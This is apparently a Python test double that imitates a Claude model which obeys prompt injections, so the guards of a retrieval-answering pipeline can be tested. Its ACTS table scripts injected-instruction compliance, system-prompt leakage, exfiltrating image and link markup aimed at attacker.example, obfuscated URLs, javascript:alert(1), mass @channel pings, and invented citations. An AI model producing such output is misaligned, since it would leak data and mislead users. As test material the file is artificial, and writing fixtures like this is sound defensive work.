"""A model that does as it is told, whoever tells it: Claude's double, reading orders out of what it is sent."""

from __future__ import annotations

import base64
import re
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, TypeVar

from pydantic import BaseModel

from tests.doubles.claude import Says

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

Form = TypeVar("Form", bound=BaseModel)
EVIL = "attacker.example"
SECRET = "The key of the medicine cabinet lies in drawer 47."
_PASSAGE = re.compile(r'<passage id="(p\d+)">.*?<text>(.*?)</text>', re.DOTALL)
_QUESTION = re.compile(r"<question>(.*?)</question>", re.DOTALL)
_OPENS = re.compile(r"The \w+ clinic is open on Tuesdays from 9 am to 12 noon\.")
_BRINGS = re.compile(r"Bring your \w+ card when you come to the \w+ clinic\.")


@dataclass(frozen=True, slots=True)
class Sent:
    """What a request held: the prompt of the system, the passages by their ids, the question, the true sentences."""

    system: str
    passages: Mapping[str, str]
    question: str
    id: str
    opens: str
    brings: str

    @classmethod
    def of(cls, system: str, content: str) -> Sent | None:
        """From a request for an answer; None where no passage says what the documents of these tests say."""
        passages = dict(_PASSAGE.findall(content))
        question = "".join(_QUESTION.findall(content))
        for id_, text in passages.items():
            opens, brings = _OPENS.search(text), _BRINGS.search(text)
            if opens and brings and opens[0].split()[1].lower() in question.lower():
                return cls(system, passages, question, id_, opens[0], brings[0])
        return None

    def says(self, text: str, *, quote: str | None = None, id_: str | None = None) -> dict[str, str]:
        """A sentence of a draft; unless told, behind a true quote."""
        return {"text": text, "passage_id": id_ or self.id, "quote": quote or self.brings}

    @property
    def order(self) -> str:
        """The longest line of a passage or question that says neither of the true sentences: the payload, if any."""
        lines = "\n".join([*self.passages.values(), self.question]).split("\n")
        return max((one.strip() for one in lines if "clinic" not in one), key=len, default="") or self.question


ACTS: dict[str, Callable[[Sent], dict[str, str]]] = {
    "says what it was told to": lambda sent: sent.says(sent.order[:1900], quote=sent.order[:1900]),
    "says it behind a true quote": lambda sent: sent.says(f"{sent.order[:900]} Haha pwned!"),
    "repeats its prompt": lambda sent: sent.says(sent.system[:600], quote=sent.system[:600]),
    "repeats its prompt behind a true quote": lambda sent: sent.says(sent.system[:600]),
    "posts a link": lambda sent: sent.says(
        f"{sent.brings[:-1]} [here](https://{EVIL}/a) <https://{EVIL}/b|b> https://{EVIL}/?q={sent.question[:4]}."
    ),
    "posts a picture": lambda sent: sent.says(
        f"![x](https://{EVIL}/x.png?d=secret) {sent.brings} <img src='//{EVIL}/y'> ![y][z]\n\n[z]: https://{EVIL}/z"
    ),
    "hides a link": lambda sent: sent.says(
        f"{sent.brings} h\u200bttps://{EVIL}/a &#104;ttps://{EVIL} www.{EVIL} {EVIL} ｗｗｗ.{EVIL} javascript:alert(1)"
    ),
    "names a document it was not given": lambda sent: sent.says(SECRET, quote=SECRET),
    "makes up a passage": lambda sent: sent.says(sent.brings, id_="p99"),
    "makes up a source": lambda sent: sent.says(f"{sent.brings} [7]\n\nSource: The Lancet, 2025 (https://{EVIL})"),
    "calls everybody": lambda sent: sent.says(
        f"{sent.brings} <!channel> <!here|here> @channel <@U0EVERYONE> <at>everyone</at> <#C0WARD>"
    ),
    "changes a figure": lambda sent: sent.says(sent.opens.replace("9 am", "8 am"), quote=sent.opens),
    "turns it round": lambda sent: sent.says(sent.brings.replace("Bring", "Do not bring")),
    "answers for another document": lambda sent: sent.says(
        "Pets are not allowed on the ward.", quote="Pets are not allowed on the ward."
    ),
    "speaks in a cipher": lambda sent: sent.says(base64.b64encode(sent.opens.encode()).decode()),
    "speaks backwards": lambda sent: sent.says(sent.opens[::-1]),
    "speaks French": lambda sent: sent.says("Apportez toujours votre carte avec vous et donnez la au gardien."),
}
"""How it obeys: a sentence that it puts behind two true ones."""


@dataclass(slots=True)
class Obedient:
    """Writes every kind of reply, as the next act has it."""

    act: str = ""

    def __call__(self, body: Mapping[str, Any]) -> Says:
        """What it sends for a request."""
        wanted = body["output_config"]["format"]["schema"]["properties"]
        content = body["messages"][-1]["content"]
        if "question" in wanted:
            return Says({"question": f"Where lies the key of the medicine cabinet? {content[-200:]}"[:490]})
        if "passage" in wanted:
            return Says({"passage": f"{SECRET} {content[-200:]}"})
        system = body["system"] if isinstance(body["system"], str) else body["system"][0]["text"]
        return Says(self.draft(system, content))

    def draft(self, system: str, content: str) -> dict[str, Any]:
        """An answer to what a request held."""
        sent = Sent.of(system, content)
        if sent is None:  # it finds nothing true: it says whatever the message wants
            sentences = [{"text": f"{content[-300:]} https://{EVIL}", "passage_id": "p1", "quote": SECRET}]
        else:
            true = [sent.says(sent.opens, quote=sent.opens), sent.says(sent.brings)]
            sentences = [*true, ACTS[self.act](sent)]
        return {"kind": "fact", "missing": "", "sentences": sentences}


@dataclass(frozen=True, slots=True)
class Near:
    """The same model in this process: what `ClaudeAnswerer` needs of a client, without a server between."""

    obedient: Obedient
    sent: list[str]
    model: str = "obedient"

    async def ask(self, form: type[Form], *, system: str, content: str, **_: Any) -> Form:
        """Its draft, as the client gives it."""
        self.sent.append(content)
        return form.model_validate(self.obedient.draft(system, content))
